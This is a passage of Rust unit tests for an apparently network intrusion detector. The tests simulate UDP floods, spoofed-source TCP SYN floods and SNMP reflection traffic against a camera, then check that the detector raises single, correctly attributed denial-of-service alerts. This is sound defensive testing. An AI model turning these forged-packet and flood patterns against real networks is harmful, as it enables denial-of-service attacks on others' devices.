/// sender MAC is the router's for all of them and only the address vote
/// can name the flooder.
#[test]
fn flood_attacker_is_the_majority_source_among_background_traffic() {
    let mut r = Run::new();
    introduce(&mut r, 0, &[(GW_MAC, GW), (CAM_MAC, CAM)]);
    let flooder: V4 = [198, 51, 100, 7];
    let others: [V4; 3] = [[203, 0, 113, 5], [203, 0, 113, 6], [198, 51, 100, 99]];
    for i in 0..3000i64 {
        let t = 1_000_000 + i * 500;
        r.at(
            t,
            &udp(
                (GW_MAC, flooder, 1024 + i as u16),
                (CAM_MAC, CAM, 53),
                &[0x55; 64],
            ),
        );
        if i % 50 == 0 {
            let a = others[(i / 50) as usize % 3];
            r.at(
                t + 1,
                &udp(
                    (GW_MAC, a, 33000 + i as u16),
                    (CAM_MAC, CAM, 53),
                    &dns(i as u16, "a.b.c", None),
                ),
            );
        }
    }
    let a = r.timed_alerts();
    let d = dos_alerts(&a);
    assert_eq!(d.len(), 1, "{a:?}");
    assert_eq!(d[0].1.signature, "udp-flood");
    assert_eq!(d[0].1.attacker, Some(ip(flooder)), "{:?}", d[0].1);
    assert!(!d[0].1.summary.contains("addresses"), "{}", d[0].1.summary);
}

/// A flood from a LAN device with random spoofed sources: the sender's MAC
/// names it, and the same victim flooded later by another sender is a new
/// incident, not the old one going on.
#[test]
fn a_second_flooder_of_the_same_victim_is_a_new_incident() {
    let mut r = Run::new();
    introduce(&mut r, 0, &[(ATK_MAC, ATK), (CAM_MAC, CAM), (SPK_MAC, SPK)]);
    for i in 0..1000i64 {
        let src = (ATK_MAC, ATK, 2000 + i as u16);
        r.at(
            1_000_000 + i * 1000,
            &tcp(src, (CAM_MAC, CAM, 80), 1, "S", b""),
        );
    }
    let mut x: u32 = 99;
    for i in 0..1000i64 {
        x = x.wrapping_mul(1_103_515_245).wrapping_add(12345);
        let forged = [
            (x >> 24) as u8 | 1,
            (x >> 16) as u8,
            (x >> 8) as u8,
            x as u8,
        ];
        r.at(
            20_000_000 + i * 1000,
            &tcp((SPK_MAC, forged, 3000), (CAM_MAC, CAM, 554), 1, "S", b""),
        );
    }
    let a = r.timed_alerts();
    let d = dos_alerts(&a);
    assert_eq!(d.len(), 2, "{a:?}");
    assert_eq!(d[0].1.attacker, Some(ip(ATK)));
    assert_eq!(d[1].1.signature, "tcp-syn-flood-spoofed");
    assert_eq!(d[1].1.attacker, Some(ip(SPK)));
    assert!(d[1].0.since(Timestamp(T0 + 20_000_000)) < 2_000_000);
}

/// A spoofed flood from the internet arrives with the router's MAC: the
/// router is not the attacker (no one on the LAN is named).
#[test]
fn a_spoofed_flood_through_the_router_does_not_blame_the_router() {
    let mut r = Run::new();
    introduce(&mut r, 0, &[(GW_MAC, GW), (CAM_MAC, CAM)]);
    // The camera talks to the cloud: its frames go to the router's MAC.
    let cloud: V4 = [203, 0, 113, 80];
    r.at(
        500_000,
        &tcp((CAM_MAC, CAM, 40000), (GW_MAC, cloud, 443), 1, "S", b""),
    );
    let mut x: u32 = 5;
    for i in 0..1500i64 {
        x = x.wrapping_mul(1_103_515_245).wrapping_add(12345);
        let forged = [
            (x >> 24) as u8 | 1,
            (x >> 16) as u8,
            (x >> 8) as u8,
            x as u8,
        ];
        r.at(
            1_000_000 + i * 1000,
            &tcp((GW_MAC, forged, 4000), (CAM_MAC, CAM, 80), 1, "S", b""),
        );
    }
    let a = r.timed_alerts();
    let d = dos_alerts(&a);
    assert_eq!(d.len(), 1, "{a:?}");
    assert_eq!(d[0].1.signature, "tcp-syn-flood-spoofed");
    assert_eq!(d[0].1.attacker, None, "{:?}", d[0].1);
    assert_eq!(d[0].1.victims, vec![ip(CAM)]);
}

/// SNMP reflection from the internet: large GetBulk responses from port 161
/// of many reflectors, arriving through the router, that the camera never
/// asked for. Victim named; no LAN attacker (the router is not one).
#[test]
fn snmp_reflection_from_the_internet_names_the_victim_only() {
    let mut r = Run::new();
    introduce(&mut r, 0, &[(GW_MAC, GW), (CAM_MAC, CAM)]);
    let response = [0x30u8; 400];
    for i in 0..1500i64 {
        let reflector = [198, 51, 100, (i % 40) as u8 + 1];
        r.at(
            1_000_000 + i * 1000,
            &udp((GW_MAC, reflector, 161), (CAM_MAC, CAM, 8080), &response),
        );
    }
    let a = r.timed_alerts();
    let d = dos_alerts(&a);
    assert_eq!(d.len(), 1, "{a:?}");
    assert_eq!(d[0].1.signature, "udp-reflection-amplification");
    assert_eq!(d[0].1.victims, vec![ip(CAM)]);
    assert_eq!(d[0].1.attacker, None);
    assert_eq!(
        d[0].1
            .evidence
            .get("reflector_port")
            .and_then(|p| p.as_u64()),
        Some(161)
    );
    assert!(d[0].0.since(Timestamp(T0 + 1_000_000)) < 2_000_000);
}

/// A flood whose sender has about three quarters of the victim's packets:
/// the majority vote is won in some packets' tally and lost in others', so
/// "who floods" flickers between the sender's address and no one. The
/// flicker is not another sender: the flood is one incident, one alert.
#[test]
fn a_flood_whose_majority_flickers_is_one_incident() {
    let mut r = Run::new();
    introduce(&mut r, 0, &[(GW_MAC, GW), (CAM_MAC, CAM)]);
    let flooder: V4 = [198, 51, 100, 7];
    let mut x: u32 = 7;
    for i in 0..5000i64 {
        x = x.wrapping_mul(1_103_515_245).wrapping_add(12345);
        let src = if (x >> 16) % 100 < 75 {
            flooder
        } else {
            [203, 0, (x >> 8) as u8, x as u8 | 1]
        };
        r.at(
            1_000_000 + i * 1000,
            &tcp(
                (GW_MAC, src, 1024 + i as u16),
                (CAM_MAC, CAM, 80),
                1,
                "S",
                b"",
            ),
        );
    }
    let a = r.timed_alerts();
    let d = dos_alerts(&a);
    assert_eq!(d.len(), 1, "{a:?}");
}
